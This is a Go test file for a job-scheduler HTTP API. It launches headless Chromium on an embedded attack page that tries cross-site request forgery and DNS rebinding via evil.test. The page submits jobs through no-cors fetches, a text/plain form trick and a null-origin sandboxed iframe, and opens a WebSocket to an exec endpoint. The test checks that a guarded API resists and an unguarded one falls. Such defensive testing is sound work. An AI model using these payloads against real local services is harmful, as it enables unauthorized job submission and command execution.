package httpapi_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/wasmnode/wasmnode/httpapi"
)

// attack is what a page's script tries against TARGET, in every way that a browser has
// without asking the target first. It reports to its own server what it could see.
const attack = `<!doctype html><meta charset="utf-8"><body><script>
const target = TARGET, alloc = ALLOC, seen = {};
const job = id => JOB.replaceAll("theirs", id);
const patience = (p) => Promise.race([p, new Promise(r => setTimeout(() => r("no answer"), 20000))]);
const loaded = e => new Promise(r => { e.onload = () => r("loaded"); e.onerror = () => r("failed"); document.body.append(e); });
async function attempts() {
  seen.fetch = await fetch(target + "/v1/jobs", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: job("by-fetch")}).then(r => r.type, String);
  const put = await fetch(target + "/v1/jobs", {method: "PUT", body: job("by-put")}).then(r => r.status, String);
  seen.put = put;
  seen.read = await fetch(target + "/v1/jobs").then(r => r.text(), () => "not readable");
  const frame = document.createElement("iframe");
  frame.name = "frame";
  document.body.append(frame);
  const form = document.createElement("form"), input = document.createElement("input");
  const text = job("by-form"), cut = text.lastIndexOf("}");
  [form.method, form.enctype, form.target, form.action] = ["POST", "text/plain", "frame", target + "/v1/jobs"];
  [input.type, input.name, input.value] = ["hidden", text.slice(0, cut) + ',"x":"', '"}'];
  form.append(input);
  document.body.append(form);
  seen.form = await patience(new Promise(r => { frame.onload = () => r("loaded"); form.submit(); }));
  for (const policy of ["unsafe-url", "no-referrer"]) {
    const img = new Image();
    img.referrerPolicy = policy;
    img.src = target + "/v1/client/gc?pretty=" + policy;
    seen["img " + policy] = await patience(loaded(img));
  }
  const inner = document.createElement("iframe");
  inner.src = target + "/v1/client/gc?pretty=frame";
  seen.frame = await patience(loaded(inner));
  const sandbox = document.createElement("iframe");
  sandbox.sandbox = "allow-scripts";
  sandbox.srcdoc = "<script>fetch(" + JSON.stringify(target + "/v1/jobs") + ", {method: 'POST', mode: 'no-cors', body: " +
    JSON.stringify(job("by-null")) + "}).then(() => parent.postMessage('sent', '*'), () => parent.postMessage('failed', '*'))<" + "/script>";
  const told = new Promise(r => addEventListener("message", e => r(e.data)));
  document.body.append(sandbox);
  seen.sandbox = await patience(told);
  seen.websocket = await patience(new Promise(r => {
    const s = new WebSocket(target.replace("http", "ws") + "/v1/client/allocation/" + alloc + '/exec?task=task&command=["true"]');
    s.onopen = () => r("open");
    s.onerror = () => r("failed");
  }));
}
attempts().catch(e => { seen.error = String(e); }).finally(() => fetch("/report", {method: "POST", body: JSON.stringify(seen)}));
</script>`

// page serves the attack, and everything else by next.
func page(t *testing.T, target string, g *guarded, next http.Handler) (handler http.Handler, reports chan map[string]any) {
	t.Helper()
	reports = make(chan map[string]any, 1)
	mux := http.NewServeMux()
	mux.HandleFunc("GET /attack", func(w http.ResponseWriter, _ *http.Request) {
		text := strings.NewReplacer("TARGET", target, "ALLOC", quoted(g.alloc), "JOB", quoted(jobJSON(t, "theirs"))).Replace(attack)
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, text)
	})
	mux.HandleFunc("POST /report", func(_ http.ResponseWriter, r *http.Request) {
		var seen map[string]any
		if json.NewDecoder(r.Body).Decode(&seen) == nil {
			reports <- seen
		}
	})
	mux.Handle("/", next)
	return mux, reports
}

// browse has a browser open a page, in which evil.test is this machine, until the page
// has reported.
func browse(t *testing.T, url string, reports <-chan map[string]any) map[string]any {
	t.Helper()
	log := filepath.Join(t.TempDir(), "chromium.log")
	output, err := os.Create(log)
	require.NoError(t, err)
	defer output.Close()
	profile := t.TempDir()
	cmd := exec.Command("chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-dev-shm-usage",
		"--disable-background-networking", "--disable-component-update", "--disable-sync",
		"--user-data-dir="+profile, "--host-resolver-rules=MAP evil.test 127.0.0.1", url)
	cmd.Stdout, cmd.Stderr = output, output
	cmd.Env = append(os.Environ(), "HOME="+profile)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	require.NoError(t, cmd.Start())
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		_ = cmd.Wait() // it is killed in the end
	}()
	defer func() {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) // it may have ended by itself
		<-ended
		// Its helpers may be writing still.
		require.Eventually(t, func() bool { return os.RemoveAll(profile) == nil }, time.Minute, 10*time.Millisecond)
	}()
	select {
	case seen := <-reports:
		return seen
	case <-ended:
		text, _ := os.ReadFile(log)
		require.FailNow(t, "the browser ended", "%s\n%s", cmd.ProcessState, text)
	case <-time.After(5 * time.Minute):
		text, _ := os.ReadFile(log)
		require.FailNow(t, "the page did not report", "%s", text)
	}
	return nil
}

// TestAWebPageInABrowser has a real browser show pages that attack the API: one of another
// port of this machine, one of another name, and one whose name is made to lead to the
// API itself. The same pages against an API that trusts everybody show that the attacks
// are real ones.
func TestAWebPageInABrowser(t *testing.T) {
	if testing.Short() {
		t.Skip("it starts a browser six times")
	}
	_, err := exec.LookPath("chromium")
	require.NoError(t, err, "it is Debian's package chromium: make browser installs it")
	for name, host := range map[string]string{"another port": "127.0.0.1", "another name": "evil.test", "rebound": ""} {
		for _, trusting := range []bool{true, false} {
			t.Run(fmt.Sprintf("%s/trusting=%t", name, trusting), func(t *testing.T) {
				g := serveGuarded(t, nil)
				api := g.Config.Handler
				if trusting {
					api = httpapi.Unguarded(g.config)
				}
				var seen map[string]any
				if host == "" {
					// What a page gets whose name first led to its server and now leads here.
					s := httptest.NewUnstartedServer(nil)
					handler, reports := page(t, "location.origin", g, api)
					s.Config.Handler = handler
					s.Start()
					defer s.Close()
					seen = browse(t, strings.Replace(s.URL, "127.0.0.1", "evil.test", 1)+"/attack", reports)
				} else {
					target := httptest.NewServer(api)
					defer target.Close()
					handler, reports := page(t, quoted(target.URL), g, http.NotFoundHandler())
					s := httptest.NewServer(handler)
					defer s.Close()
					seen = browse(t, strings.Replace(s.URL, "127.0.0.1", host, 1)+"/attack", reports)
				}
				require.NotContains(t, seen, "error")
				t.Log(seen)
				if trusting {
					g.suffered(t, host == "", seen)
					return
				}
				require.Len(t, g.plane.Jobs(), 1, "its own")
				require.Zero(t, g.node.collected.Load())
				require.Zero(t, g.node.executed.Load())
				require.Equal(t, "failed", seen["websocket"])
				require.NotContains(t, seen["read"], "mine")
			})
		}
	}
}

// suffered checks that every attack came through to an API that trusts everybody; of the
// pages, only one of its own origin can read the answers and send a PUT.
func (g *guarded) suffered(t *testing.T, own bool, seen map[string]any) {
	t.Helper()
	want := []string{"by-fetch", "by-form", "by-null"}
	if own {
		want = append(want, "by-put")
		require.Contains(t, seen["read"], "mine")
	}
	for _, id := range want {
		require.NotNil(t, g.plane.Job("default", id), id)
	}
	require.EqualValues(t, 3, g.node.collected.Load(), "two pictures and a frame")
	require.Equal(t, own, seen["websocket"] == "open", "the websocket's library knows the origin, and believes the host")
	require.Equal(t, own, g.node.executed.Load() == 1)
}
